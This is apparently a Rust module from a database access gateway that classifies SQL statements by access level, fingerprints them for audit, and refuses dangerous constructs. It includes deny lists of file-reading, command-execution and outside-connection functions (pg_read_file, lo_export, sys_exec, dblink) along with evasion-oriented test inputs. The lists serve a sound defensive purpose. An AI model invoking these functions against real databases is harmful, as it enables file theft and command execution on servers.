//! Analyses one SQL statement before it reaches the database: the access it needs (read, write
//! or DDL) to check against the grant, the functions it names (resolved as the server resolves
//! them) and its fingerprint for the audit record. Anything that is none of read, write or DDL
//! (roles, databases, COPY, settings, procedural code) is refused: database-level work is done
//! by host actions, not adapter SQL.
//!
//! Function names are taken from the tokens (any name followed by `(`, wherever it stands,
//! including stored expressions sqlparser keeps as raw tokens) and from the parsed statement, after
//! `U&"…"` identifiers are decoded ([`decode_unicode_ident`]) and unquoted names folded to lower
//! case. Three rules apply to them: functions that reach outside the bound database
//! ([`FORBIDDEN_FUNCTIONS`]) and functions that run SQL given as text ([`SQL_TEXT_FUNCTIONS`]) are
//! refused on every grant; on a read grant the backend refuses any the server marks volatile
//! (`super::functions`).

use std::ops::ControlFlow;

use sha2::{Digest, Sha256};
use sqlparser::ast::{
    Expr, ObjectName, ObjectNamePart, ObjectType, Query, SetExpr, Statement, TableFactor, Visit,
    Visitor,
};
use sqlparser::dialect::{Dialect, MySqlDialect, PostgreSqlDialect};
use sqlparser::keywords::Keyword;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Location, Token, TokenWithSpan, Tokenizer, Whitespace};

use super::{Engine, mysql_sql};
use crate::audit::SqlAudit;
use upshift_model::grants::Access;

/// Functions that reach outside the bound database or the server's normal data path: refused on
/// every grant, by resolved name.
pub const FORBIDDEN_FUNCTIONS: &[&str] = &[
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_ls_logicalmapdir",
    "pg_ls_logicalsnapdir",
    "pg_ls_replslotdir",
    "pg_stat_file",
    "lo_import",
    "lo_export",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_log_backend_memory_contexts",
    "set_config",
    "pg_promote",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_wal_replay_pause",
    "pg_wal_replay_resume",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_copy_physical_replication_slot",
    "pg_copy_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_replication_slot_advance",
    "pg_logical_slot_get_changes",
    "pg_logical_slot_get_binary_changes",
    "pg_logical_slot_peek_changes",
    "pg_logical_slot_peek_binary_changes",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "pg_file_sync",
    "pg_logdir_ls",
    "load_file",
    "sys_exec",
    "sys_eval",
];

/// Functions that run SQL given to them as text (which the host never sees as a statement):
/// refused on every grant, by resolved name. Every name starting with `dblink` is refused too.
pub const SQL_TEXT_FUNCTIONS: &[&str] = &[
    "query_to_xml",
    "query_to_xmlschema",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "cursor_to_xmlschema",
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
    "ts_stat",
    "ts_rewrite",
    "pg_background_launch",
];

/// PostgreSQL's identifier length: longer names are cut to this many bytes.
const NAMEDATALEN: usize = 63;

/// How much of a normalised statement the audit record keeps.
const FINGERPRINT_TEXT_BYTES: usize = 1024;

/// Why a statement is refused before it reaches the database.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SqlRefusal {
    /// Not parseable as PostgreSQL.
    #[error("cannot parse the SQL: {0}")]
    Unparseable(String),
    /// More or fewer than one statement.
    #[error(
        "expected exactly one SQL statement, found {0}; send statements one at a time (or use transaction)"
    )]
    NotOneStatement(usize),
    /// A statement kind the db capability never runs.
    #[error(
        "`{0}` statements are not allowed through the db capability; database-level work (backup, restore, clone, roles, settings) is done by host actions"
    )]
    Forbidden(String),
    /// A function that reaches outside the bound database.
    #[error(
        "function `{0}` is not allowed through the db capability (it reaches outside the bound database)"
    )]
    ForbiddenFunction(String),
    /// A function that runs SQL given as text.
    #[error(
        "function `{0}` runs SQL given as text, which the host cannot check; it is not allowed through the db capability"
    )]
    SqlTextFunction(String),
    /// A `U&"…"` identifier the server would reject or that cannot be decoded.
    #[error("invalid U&\"…\" identifier: {0}")]
    UnicodeIdent(String),
    /// A KWDB `EXPORT` / `IMPORT` whose path leaves the node's extern directory.
    #[error("{0}")]
    KwdbPath(String),
    /// A MySQL executable comment or optimizer hint (`/*!`, `/*M!`, `/*+`), anywhere in the text.
    #[error(
        "MySQL executable comments and optimizer hints (`{0}…*/`) are refused on every grant: the server runs what is inside them, and the host's parser reads them as comments; write the SQL without them (choose a version-specific statement in the adapter from the detected server version), and pass text containing `{0}` as a parameter (`?`)"
    )]
    ExecutableComment(String),
    /// Something refused on every grant, with why and what to do instead.
    #[error("{what} is refused on every grant: {why}; {instead}")]
    Refused {
        /// What was refused.
        what: String,
        /// Why.
        why: String,
        /// What to do instead.
        instead: String,
    },
    /// A MySQL name in a schema other than the bound database.
    #[error(
        "`{name}` is in schema `{schema}`, but the binding is for database `{database}`{}; a MySQL binding reaches only its own database (and `information_schema` for reads): name tables without a schema or with `{database}`, and bind another database separately in the fleet file if the adapter needs it",
        if *read_only_here { " and this statement is not a read" } else { "" }
    )]
    OutsideSchema {
        /// The name as written.
        name: String,
        /// The schema it names.
        schema: String,
        /// The bound database.
        database: String,
        /// `information_schema`, named by a statement that is not a read.
        read_only_here: bool,
    },
}

/// A function a statement names, resolved as the server resolves names: `U&` escapes decoded,
/// quotes removed, unquoted names in lower case, cut to 63 bytes.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct FunctionRef {
    /// The schema it is qualified with, if any (else the search path decides).
    pub schema: Option<String>,
    /// The function's name.
    pub name: String,
    /// Named in attribute notation (`row.f`, a field of a row that PostgreSQL also reads as
    /// `f(row)`): only one-argument functions can match.
    pub attribute: bool,
}

impl std::fmt::Display for FunctionRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.schema {
            Some(schema) => write!(f, "{schema}.{}", self.name),
            None => f.write_str(&self.name),
        }
    }
}

/// What the host learnt about one statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Analysis {
    /// The access it needs.
    pub access: Access,
    /// Every function it may call (for the server-side volatility check on read grants).
    pub functions: Vec<FunctionRef>,
}

/// A statement without its literals, for the audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fingerprint {
    /// Literals as `?`, comments dropped, tokens separated by one space, unquoted words in lower
    /// case.
    pub text: String,
    /// sha256 (hex) of `text`.
    pub sha256: String,
}

impl Fingerprint {
    /// The audit record's entry for this statement, with its class (`read`, …, or `refused`).
    pub fn audit(&self, class: &str) -> SqlAudit {
        let mut text = self.text.clone();
        if text.len() > FINGERPRINT_TEXT_BYTES {
            let mut cut = FINGERPRINT_TEXT_BYTES;
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            text.truncate(cut);
            text.push('…');
        }
        SqlAudit {
            class: class.to_string(),
            fingerprint: text,
            sha256: self.sha256.clone(),
        }
    }
}

/// The access one PostgreSQL statement needs.
pub fn classify(sql: &str) -> Result<Access, SqlRefusal> {
    classify_for(Engine::Postgres, sql)
}

/// The access one statement needs, parsed in the engine's dialect.
pub fn classify_for(engine: Engine, sql: &str) -> Result<Access, SqlRefusal> {
    analyze_for(engine, sql).map(|a| a.access)
}

fn dialect(engine: Engine) -> &'static dyn Dialect {
    match engine {
        Engine::Postgres | Engine::Kwdb => &PostgreSqlDialect {},
        Engine::MySql => &MySqlDialect {},
    }
}

/// Analyse one statement in the engine's dialect: its access, and the functions it names (each
/// already checked against [`FORBIDDEN_FUNCTIONS`] and [`SQL_TEXT_FUNCTIONS`]). On MySQL no
/// schema qualifier but `information_schema` is accepted: use [`analyze_bound`].
pub fn analyze_for(engine: Engine, sql: &str) -> Result<Analysis, SqlRefusal> {
    analyze_bound(engine, None, sql)
}

/// [`analyze_for`] for a binding of `database`: on MySQL / MariaDB the statement may name only
/// that database (and `information_schema` for reads), and the dialect's own rules apply
/// ([`super::mysql_sql`]). PostgreSQL and KWDB ignore `database`.
pub fn analyze_bound(
    engine: Engine,
    database: Option<&str>,
    sql: &str,
) -> Result<Analysis, SqlRefusal> {
    if engine == Engine::MySql {
        return analyze_mysql(database, sql);
    }
    let (text, tokens) = resolved_tokens(engine, sql)?;
    if engine == Engine::Kwdb {
        super::kwdb::check_tokens(&tokens)?;
    }
    // Names first, from the tokens: a refused function is named even where the parser fails.
    let mut functions = token_functions(engine, &tokens);
    for f in &functions {
        check_name(engine, &f.name)?;
    }
    if engine == Engine::Kwdb
        && let Some(kwdb_only) = super::kwdb::classify_tokens(&tokens)
    {
        // The functions of a `SHOW` or an `EXPORT … FROM SELECT` were checked by name above;
        // on a read grant the server is asked about their volatility too.
        let mut functions: Vec<FunctionRef> =
            functions.into_iter().filter(|f| !f.attribute).collect();
        functions.sort();
        functions.dedup();
        return kwdb_only.map(|access| Analysis { access, functions });
    }
    let statements = Parser::parse_sql(dialect(engine), &text)
        .map_err(|e| SqlRefusal::Unparseable(e.to_string()))?;
    let [statement] = statements.as_slice() else {
        return Err(SqlRefusal::NotOneStatement(statements.len()));
    };
    for f in ast_functions(engine, statement) {
        check_name(engine, &f.name)?;
        functions.push(f);
    }
    functions.sort();
    functions.dedup();
    let access = statement_access(statement)?;
    Ok(Analysis { access, functions })
}

/// The MySQL / MariaDB analysis: raw text, tokens, then the parsed statement (see
/// [`super::mysql_sql`]).
fn analyze_mysql(database: Option<&str>, sql: &str) -> Result<Analysis, SqlRefusal> {
    mysql_sql::check_raw(sql)?;
    let (text, tokens) = resolved_tokens(Engine::MySql, sql)?;
    mysql_sql::check_sql_mode_independent(&text, &tokens)?;
    let facts = mysql_sql::check_tokens(&tokens)?;
    // MySQL has no attribute notation: `t.sleep` is a column.
    let mut functions: Vec<FunctionRef> = token_functions(Engine::MySql, &tokens)
        .into_iter()
        .filter(|f| !f.attribute)
        .collect();
    let mut writes_sequence = facts.writes_sequence;
    for f in &functions {
        check_name(Engine::MySql, &f.name)?;
        writes_sequence |= mysql_sql::check_function(&f.name)?;
    }
    let statements = Parser::parse_sql(dialect(Engine::MySql), &text)
        .map_err(|e| SqlRefusal::Unparseable(e.to_string()))?;
    let [statement] = statements.as_slice() else {
        return Err(SqlRefusal::NotOneStatement(statements.len()));
    };
    mysql_sql::check_statement(statement)?;
    for f in ast_functions(Engine::MySql, statement) {
        check_name(Engine::MySql, &f.name)?;
        writes_sequence |= mysql_sql::check_function(&f.name)?;
        functions.push(f);
    }
    functions.sort();
    functions.dedup();
    let mut access = statement_access(statement)?;
    if writes_sequence && access == Access::Read {
        access = Access::Write;
    }
    mysql_sql::check_scope(database, access, statement, &facts)?;
    Ok(Analysis { access, functions })
}

/// The statement's fingerprint: literals removed, so `WHERE id = 1` and `WHERE id = 2` share
/// one. A statement that does not tokenize gets one fingerprint for all such statements.
pub fn fingerprint(engine: Engine, sql: &str) -> Fingerprint {
    let text = match resolved_tokens(engine, sql) {
        Ok((_, tokens)) => normalise(engine, &tokens),
        Err(_) => "(not tokenizable)".to_string(),
    };
    let sha256 = hex::encode(Sha256::digest(text.as_bytes()));
    Fingerprint { text, sha256 }
}

/// Refuse `name` if it reaches outside the database or runs SQL text.
fn check_name(engine: Engine, name: &str) -> Result<(), SqlRefusal> {
    if engine == Engine::MySql {
        mysql_sql::check_function(name)?;
    }
    if FORBIDDEN_FUNCTIONS.contains(&name) {
        return Err(SqlRefusal::ForbiddenFunction(name.to_string()));
    }
    if SQL_TEXT_FUNCTIONS.contains(&name) || name.starts_with("dblink") {
        return Err(SqlRefusal::SqlTextFunction(name.to_string()));
    }
    Ok(())
}

/// The text to parse and its tokens (whitespace included), with every `U&"…"` identifier of a
/// PostgreSQL-dialect statement replaced by the plain quoted identifier it stands for.
fn resolved_tokens(engine: Engine, sql: &str) -> Result<(String, Vec<TokenWithSpan>), SqlRefusal> {
    let tokenize = |text: &str| {
        Tokenizer::new(dialect(engine), text)
            .tokenize_with_location()
            .map_err(|e| SqlRefusal::Unparseable(e.to_string()))
    };
    let tokens = tokenize(sql)?;
    if engine == Engine::MySql {
        return Ok((sql.to_string(), tokens));
    }
    match rewrite_unicode_idents(sql, &tokens)? {
        Some(text) => {
            let tokens = tokenize(&text)?;
            Ok((text, tokens))
        }
        None => Ok((sql.to_string(), tokens)),
    }
}

/// Byte offsets of (line, column) locations in `text`, counted as the tokenizer counts them.
struct Offsets {
    line_starts: Vec<usize>,
}

impl Offsets {
    fn new(text: &str) -> Offsets {
        let mut line_starts = vec![0];
        line_starts.extend(text.match_indices('\n').map(|(i, _)| i + 1));
        Offsets { line_starts }
    }

    fn of(&self, text: &str, at: Location) -> Option<usize> {
        let line = usize::try_from(at.line).ok()?.checked_sub(1)?;
        let column = usize::try_from(at.column).ok()?.checked_sub(1)?;
        let start = *self.line_starts.get(line)?;
        let rest = text.get(start..)?;
        match rest.char_indices().nth(column) {
            Some((i, _)) => Some(start + i),
            None if rest.chars().count() == column => Some(text.len()),
            None => None,
        }
    }
}

fn is_space(t: &Token) -> bool {
    matches!(t, Token::Whitespace(_))
}

/// `text` with each `U&"…"` identifier (and its `UESCAPE '…'`) replaced by the quoted identifier
/// it decodes to; `None` when there is none. `U`, `&` and the quoted identifier must touch, as
/// the server requires (`U & "x"` is a bitwise and).
fn rewrite_unicode_idents(
    text: &str,
    tokens: &[TokenWithSpan],
) -> Result<Option<String>, SqlRefusal> {
    let offsets = Offsets::new(text);
    let offset = |at: Location| {
        offsets
            .of(text, at)
            .ok_or_else(|| SqlRefusal::Unparseable("a token has no position".into()))
    };
    let mut out = String::new();
    let mut copied = 0;
    let mut found = false;
    let mut i = 0;
    while i + 2 < tokens.len() {
        let (Token::Word(u), Token::Ampersand, Token::Word(body)) =
            (&tokens[i].token, &tokens[i + 1].token, &tokens[i + 2].token)
        else {
            i += 1;
            continue;
        };
        if !u.value.eq_ignore_ascii_case("u")
            || u.quote_style.is_some()
            || body.quote_style != Some('"')
        {
            i += 1;
            continue;
        }
        let start = offset(tokens[i].span.start)?;
        let mut end = offset(tokens[i + 2].span.end)?;
        let mut next = i + 3;
        // An optional `UESCAPE 'c'`, with whitespace or comments around it.
        let mut escape = '\\';
        let mut j = next;
        while j < tokens.len() && is_space(&tokens[j].token) {
            j += 1;
        }
        if let Some(Token::Word(w)) = tokens.get(j).map(|t| &t.token)
            && w.quote_style.is_none()
            && w.value.eq_ignore_ascii_case("uescape")
        {
            let mut k = j + 1;
            while k < tokens.len() && is_space(&tokens[k].token) {
                k += 1;
            }
            let Some(Token::SingleQuotedString(c)) = tokens.get(k).map(|t| &t.token) else {
                return Err(SqlRefusal::UnicodeIdent(
                    "UESCAPE must be followed by a one-character string literal".into(),
                ));
            };
            escape = uescape_char(c)?;
            end = offset(tokens[k].span.end)?;
            next = k + 1;
        }
        let decoded = decode_unicode_ident(&body.value, escape)?;
        out.push_str(text.get(copied..start).unwrap_or_default());
        out.push('"');
        out.push_str(&decoded.replace('"', "\"\""));
        out.push('"');
        copied = end;
        found = true;
        i = next;
    }
    if !found {
        return Ok(None);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    Ok(Some(out))
}

/// The escape character a `UESCAPE '…'` names, checked as the server checks it.
fn uescape_char(literal: &str) -> Result<char, SqlRefusal> {
    let mut chars = literal.chars();
    match (chars.next(), chars.next()) {
        (Some(c), None)
            if !c.is_ascii_hexdigit() && !matches!(c, '+' | '\'' | '"') && !c.is_whitespace() =>
        {
            Ok(c)
        }
        _ => Err(SqlRefusal::UnicodeIdent(format!(
            "invalid UESCAPE character `{literal}`"
        ))),
    }
}

/// Decode the body of a `U&"…"` identifier (quotes already undoubled) with escape character
/// `escape`: `<e>XXXX` (4 hex digits), `<e>+XXXXXX` (6), `<e><e>` for the escape itself, and
/// UTF-16 surrogate pairs, as PostgreSQL does. Anything else is an error, as on the server.
pub fn decode_unicode_ident(body: &str, escape: char) -> Result<String, SqlRefusal> {
    let bad = |why: &str| SqlRefusal::UnicodeIdent(format!("{why} in U&\"{body}\""));
    let mut out = String::new();
    let mut chars = body.chars().peekable();
    let mut high: Option<u32> = None;
    let hex = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, n: usize| {
        let mut v = 0u32;
        for _ in 0..n {
            let d = chars.next().and_then(|c| c.to_digit(16))?;
            v = v * 16 + d;
        }
        Some(v)
    };
    while let Some(c) = chars.next() {
        if c != escape {
            if high.is_some() {
                return Err(bad("a lone UTF-16 high surrogate"));
            }
            out.push(c);
            continue;
        }
        let code = match chars.peek() {
            Some(&e) if e == escape => {
                chars.next();
                if high.is_some() {
                    return Err(bad("a lone UTF-16 high surrogate"));
                }
                out.push(escape);
                continue;
            }
            Some('+') => {
                chars.next();
                hex(&mut chars, 6).ok_or_else(|| bad("an invalid Unicode escape"))?
            }
            _ => hex(&mut chars, 4).ok_or_else(|| bad("an invalid Unicode escape"))?,
        };
        let code = match (high.take(), code) {
            (None, 0xD800..=0xDBFF) => {
                high = Some(code);
                continue;
            }
            (Some(h), 0xDC00..=0xDFFF) => 0x10000 + ((h - 0xD800) << 10) + (code - 0xDC00),
            (Some(_), _) => return Err(bad("a lone UTF-16 high surrogate")),
            (None, 0xDC00..=0xDFFF) => return Err(bad("a lone UTF-16 low surrogate")),
            (None, code) => code,
        };
        match char::from_u32(code) {
            Some(ch) if ch != '\0' => out.push(ch),
            _ => return Err(bad("an invalid Unicode code point")),
        }
    }
    if high.is_some() {
        return Err(bad("a lone UTF-16 high surrogate"));
    }
    Ok(out)
}

/// An identifier as the server resolves it. PostgreSQL: quoted as written, unquoted in (ASCII)
/// lower case, both cut to 63 bytes. MySQL (function names are case-insensitive): in lower case.
fn resolve(engine: Engine, value: &str, quoted: bool) -> String {
    if engine == Engine::MySql {
        return value.to_ascii_lowercase();
    }
    let mut name = if quoted {
        value.to_string()
    } else {
        value.to_ascii_lowercase()
    };
    if name.len() > NAMEDATALEN {
        let mut cut = NAMEDATALEN;
        while !name.is_char_boundary(cut) {
            cut -= 1;
        }
        name.truncate(cut);
    }
    name
}

/// A function reference from the resolved parts of a (possibly qualified) name.
fn function_ref(parts: Vec<String>, attribute: bool) -> Option<FunctionRef> {
    let mut parts = parts;
    let name = parts.pop()?;
    Some(FunctionRef {
        schema: parts.pop(),
        name,
        attribute,
    })
}

/// Every function call in the tokens — a name (`a.b.c`) followed by `(` — and every word after
/// a `.` that is not a call (attribute notation). Whitespace and comments between the parts
/// are skipped, as the server skips them. A word after `TABLESAMPLE` names a sampling method.
/// On MySQL a name is also a backquoted or double-quoted (`ANSI_QUOTES`) identifier
/// ([`mysql_sql::name_token`]).
fn token_functions(engine: Engine, tokens: &[TokenWithSpan]) -> Vec<FunctionRef> {
    let sig: Vec<&Token> = tokens
        .iter()
        .map(|t| &t.token)
        .filter(|t| !is_space(t))
        .collect();
    fn name(engine: Engine, t: &Token) -> Option<(&str, bool)> {
        match t {
            _ if engine == Engine::MySql => mysql_sql::name_token(t),
            Token::Word(w) => Some((w.value.as_str(), w.quote_style.is_some())),
            _ => None,
        }
    }
    let mut out = Vec::new();
    let mut i = 0;
    while i < sig.len() {
        let Some((first, quoted)) = name(engine, sig[i]) else {
            i += 1;
            continue;
        };
        let after_dot = i > 0 && matches!(sig[i - 1], Token::Period);
        let after_tablesample =
            i > 0 && matches!(sig[i - 1], Token::Word(w) if w.keyword == Keyword::TABLESAMPLE);
        let mut parts = vec![resolve(engine, first, quoted)];
        let mut j = i + 1;
        while j + 1 < sig.len()
            && matches!(sig[j], Token::Period)
            && let Some((part, quoted)) = name(engine, sig[j + 1])
        {
            parts.push(resolve(engine, part, quoted));
            j += 2;
        }
        let call = matches!(sig.get(j), Some(Token::LParen));
        if call && !after_tablesample {
            if after_dot {
                // `(row).f(…)` is not valid SQL; still, check the name.
                parts.drain(..parts.len().saturating_sub(1));
            }
            out.extend(function_ref(parts, false));
        } else {
            let skip = usize::from(!after_dot);
            for p in parts.into_iter().skip(skip) {
                out.push(FunctionRef {
                    schema: None,
                    name: p,
                    attribute: true,
                });
            }
        }
        i = j.max(i + 1);
    }
    out
}

fn name_parts(engine: Engine, name: &ObjectName) -> Vec<String> {
    name.0
        .iter()
        .map(|part| match part {
            ObjectNamePart::Identifier(id) => resolve(engine, &id.value, id.quote_style.is_some()),
            ObjectNamePart::Function(f) => {
                resolve(engine, &f.name.value, f.name.quote_style.is_some())
            }
        })
        .collect()
}

/// Collects the functions the parsed statement calls: expressions anywhere in it (subqueries,
/// CTEs, DEFAULT / CHECK / GENERATED, index expressions, view bodies) and FROM-clause functions.
struct Functions(Engine, Vec<FunctionRef>);

impl Visitor for Functions {
    type Break = ();

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = expr {
            self.1
                .extend(function_ref(name_parts(self.0, &f.name), false));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | TableFactor::Function { name, .. } => {
                self.1.extend(function_ref(name_parts(self.0, name), false));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

fn ast_functions(engine: Engine, statement: &Statement) -> Vec<FunctionRef> {
    let mut found = Functions(engine, Vec::new());
    let _ = statement.visit(&mut found);
    found.1
}

/// The tokens without literals or comments, one space apart, unquoted words in lower case.
/// On MySQL an executable comment or hint stays in the fingerprint as `/*!…*/` (its content
/// may hold literals), so the audit shows what the server would have run something hidden.
fn normalise(engine: Engine, tokens: &[TokenWithSpan]) -> String {
    let mut out: Vec<String> = Vec::new();
    for t in tokens {
        let piece = match &t.token {
            Token::Whitespace(Whitespace::MultiLineComment(c))
                if engine == Engine::MySql
                    && (c.starts_with('!')
                        || c.starts_with("M!")
                        || c.starts_with("m!")
                        || c.starts_with('+')) =>
            {
                "/*!…*/".to_string()
            }
            Token::Whitespace(_) | Token::EOF => continue,
            Token::Word(w) => match w.quote_style {
                None => w.value.to_ascii_lowercase(),
                Some(q) => {
                    let close = if q == '[' { ']' } else { q };
                    format!(
                        "{q}{}{close}",
                        w.value.replace(close, &format!("{close}{close}"))
                    )
                }
            },
            Token::Number(..)
            | Token::SingleQuotedString(_)
            | Token::DoubleQuotedString(_)
            | Token::TripleSingleQuotedString(_)
            | Token::TripleDoubleQuotedString(_)
            | Token::DollarQuotedString(_)
            | Token::SingleQuotedByteStringLiteral(_)
            | Token::DoubleQuotedByteStringLiteral(_)
            | Token::TripleSingleQuotedByteStringLiteral(_)
            | Token::TripleDoubleQuotedByteStringLiteral(_)
            | Token::SingleQuotedRawStringLiteral(_)
            | Token::DoubleQuotedRawStringLiteral(_)
            | Token::TripleSingleQuotedRawStringLiteral(_)
            | Token::TripleDoubleQuotedRawStringLiteral(_)
            | Token::NationalStringLiteral(_)
            | Token::EscapedStringLiteral(_)
            | Token::UnicodeStringLiteral(_)
            | Token::HexStringLiteral(_) => "?".to_string(),
            other => other.to_string(),
        };
        out.push(piece);
    }
    out.join(" ")
}

/// Whether a query changes data: a data-modifying CTE (`WITH d AS (DELETE … RETURNING …)`),
/// anywhere in it, makes a "read" a write.
fn modifies(q: &Query) -> bool {
    fn body(e: &SetExpr) -> bool {
        match e {
            SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
                true
            }
            SetExpr::Query(q) => modifies(q),
            SetExpr::SetOperation { left, right, .. } => body(left) || body(right),
            _ => false,
        }
    }
    q.with
        .as_ref()
        .is_some_and(|w| w.cte_tables.iter().any(|c| modifies(&c.query)))
        || body(&q.body)
}

/// Whether a query creates a table (`SELECT … INTO t`), anywhere in it.
fn creates_table(q: &Query) -> bool {
    fn body(e: &SetExpr) -> bool {
        match e {
            SetExpr::Select(s) => s.into.is_some(),
            SetExpr::Query(q) => creates_table(q),
            SetExpr::SetOperation { left, right, .. } => body(left) || body(right),
            _ => false,
        }
    }
    q.with
        .as_ref()
        .is_some_and(|w| w.cte_tables.iter().any(|c| creates_table(&c.query)))
        || body(&q.body)
}

/// Whether an `EXPLAIN` runs its statement: `ANALYZE` (or `ANALYSE`) in any form, with any
/// value (`ANALYZE false` is counted too: the host does not evaluate option values).
fn explain_runs(analyze: bool, options: Option<&[sqlparser::ast::UtilityOption]>) -> bool {
    analyze
        || options.is_some_and(|options| {
            options.iter().any(|o| {
                let name = o.name.value.to_ascii_lowercase();
                name == "analyze" || name == "analyse"
            })
        })
}

fn statement_access(statement: &Statement) -> Result<Access, SqlRefusal> {
    let kind = |s: &Statement| {
        let text = s.to_string();
        text.split_whitespace()
            .take(2)
            .collect::<Vec<_>>()
            .join(" ")
            .to_uppercase()
    };
    match statement {
        Statement::Query(_)
            if statement
                .to_string()
                .to_ascii_uppercase()
                .contains(" INTO OUTFILE ")
                || statement
                    .to_string()
                    .to_ascii_uppercase()
                    .contains(" INTO DUMPFILE ") =>
        {
            Err(SqlRefusal::Forbidden("SELECT … INTO OUTFILE".into()))
        }
        Statement::Query(q) => {
            if creates_table(q) {
                Ok(Access::Ddl)
            } else if q.locks.is_empty() && !modifies(q) {
                Ok(Access::Read)
            } else {
                Ok(Access::Write)
            }
        }
        Statement::Explain {
            statement,
            analyze,
            options,
            ..
        } => {
            // The explained statement must be one the capability runs at all.
            let inner = statement_access(statement)?;
            if explain_runs(*analyze, options.as_deref()) {
                Ok(inner)
            } else {
                Ok(Access::Read)
            }
        }
        Statement::Insert(_)
        | Statement::Update { .. }
        | Statement::Delete(_)
        | Statement::Merge { .. } => Ok(Access::Write),
        Statement::CreateTable(_)
        | Statement::AlterTable { .. }
        | Statement::CreateIndex(_)
        | Statement::AlterIndex { .. }
        | Statement::CreateView { .. }
        | Statement::AlterView { .. }
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::Truncate { .. }
        | Statement::Comment { .. } => Ok(Access::Ddl),
        Statement::Drop { object_type, .. } => match object_type {
            ObjectType::Table
            | ObjectType::View
            | ObjectType::Index
            | ObjectType::Sequence
            | ObjectType::Type
            | ObjectType::MaterializedView => Ok(Access::Ddl),
            _ => Err(SqlRefusal::Forbidden(kind(statement))),
        },
        other => Err(SqlRefusal::Forbidden(kind(other))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn functions(sql: &str) -> Vec<String> {
        analyze_for(Engine::Postgres, sql)
            .map(|a| a.functions.iter().map(ToString::to_string).collect())
            .unwrap_or_else(|e| vec![format!("refused: {e}")])
    }

    #[test]
    fn classifies_reads_writes_and_ddl() {
        assert_eq!(
            classify("SELECT version FROM instance_change_history ORDER BY id DESC LIMIT 1"),
            Ok(Access::Read)
        );
        assert_eq!(
            classify("WITH t AS (SELECT 1) SELECT * FROM t"),
            Ok(Access::Read)
        );
        assert_eq!(
            classify("SELECT * FROM principal FOR UPDATE"),
            Ok(Access::Write)
        );
        assert_eq!(
            classify("INSERT INTO setting (name) VALUES ($1)"),
            Ok(Access::Write)
        );
        assert_eq!(classify("DELETE FROM principal"), Ok(Access::Write));
        assert_eq!(
            classify("ALTER TABLE principal ADD COLUMN x int"),
            Ok(Access::Ddl)
        );
        assert_eq!(classify("DROP TABLE principal"), Ok(Access::Ddl));
        assert_eq!(
            classify("CREATE INDEX i ON principal (id)"),
            Ok(Access::Ddl)
        );
    }

    #[test]
    fn explain_analyze_in_any_spelling_needs_what_its_statement_needs() {
        // sqlparser does not know the `ANALYSE` keyword spelling: refused as unparseable.
        assert!(matches!(
            classify("EXPLAIN ANALYSE DELETE FROM victims"),
            Err(SqlRefusal::Unparseable(_))
        ));
        for sql in [
            "EXPLAIN ANALYZE DELETE FROM victims",
            "EXPLAIN ANALYZE VERBOSE DELETE FROM victims",
            "EXPLAIN (ANALYZE) DELETE FROM victims",
            "EXPLAIN (ANALYSE) DELETE FROM victims",
            "EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM victims",
            "EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM victims",
            "explain (verbose, analyze 1) update victims set name = 'x'",
            "EXPLAIN (\"analyze\") DELETE FROM victims",
            "EXPLAIN (ANALYZE) WITH d AS (DELETE FROM victims RETURNING id) SELECT * FROM d",
        ] {
            assert_eq!(classify(sql), Ok(Access::Write), "{sql}");
        }
        assert_eq!(
            classify("EXPLAIN (ANALYZE) SELECT * INTO t FROM victims"),
            Ok(Access::Ddl)
        );
        assert_eq!(
            classify("EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1"),
            Ok(Access::Ddl)
        );
        assert_eq!(classify("EXPLAIN DELETE FROM victims"), Ok(Access::Read));
        assert_eq!(
            classify("EXPLAIN (ANALYZE) SELECT count(*) FROM victims"),
            Ok(Access::Read)
        );
        assert!(matches!(
            classify("EXPLAIN ANALYZE DROP DATABASE x"),
            Err(SqlRefusal::Unparseable(_) | SqlRefusal::Forbidden(_))
        ));
    }

    #[test]
    fn select_into_and_create_table_as_create_a_table() {
        for sql in [
            "SELECT * INTO t FROM victims",
            "SELECT id INTO TEMP t FROM victims",
            "SELECT id INTO UNLOGGED TABLE t FROM victims",
            "WITH x AS (SELECT 1 AS a) SELECT a INTO t FROM x",
            "CREATE TABLE t AS SELECT * FROM victims",
            "CREATE MATERIALIZED VIEW t AS SELECT 1",
        ] {
            assert_eq!(classify(sql), Ok(Access::Ddl), "{sql}");
        }
    }

    #[test]
